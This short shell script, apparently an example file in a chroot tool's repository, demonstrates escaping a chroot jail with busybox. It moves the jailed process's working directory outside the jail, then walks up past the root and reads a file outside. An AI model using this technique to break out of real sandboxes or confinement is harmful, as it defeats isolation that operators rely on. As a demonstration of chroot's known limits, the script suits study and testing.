#!/bin/sh
# A way out of a chroot, with nothing but busybox. Run it in a container:
#
#     v1-chroot sh -s < v1-chroot/examples/escape.sh
#
# The kernel stops a process at its root directory only when it walks *through* that directory.
# So: start a second chroot further down, and move the directory it stands in out of it.

rm -rf /tmp/jail /tmp/door
mkdir -p /tmp/jail/bin /tmp/jail/door
ln /bin/busybox /tmp/jail/bin/busybox

accomplice() {
    until [ -e /tmp/jail/door/ready ]; do :; done
    mv /tmp/jail/door /tmp/door
}

# The prisoner's root is /tmp/jail, its working directory the door. `read` returns when the
# accomplice has ended and the pipe is closed. `cd -P` walks up for real, past every root.
accomplice | chroot /tmp/jail /bin/busybox sh -c '
    cd /door
    : > ready
    read moved
    cd -P ../../../../../../../../../../..
    exec /bin/busybox chroot . /bin/cat /tmp/outside.txt
'
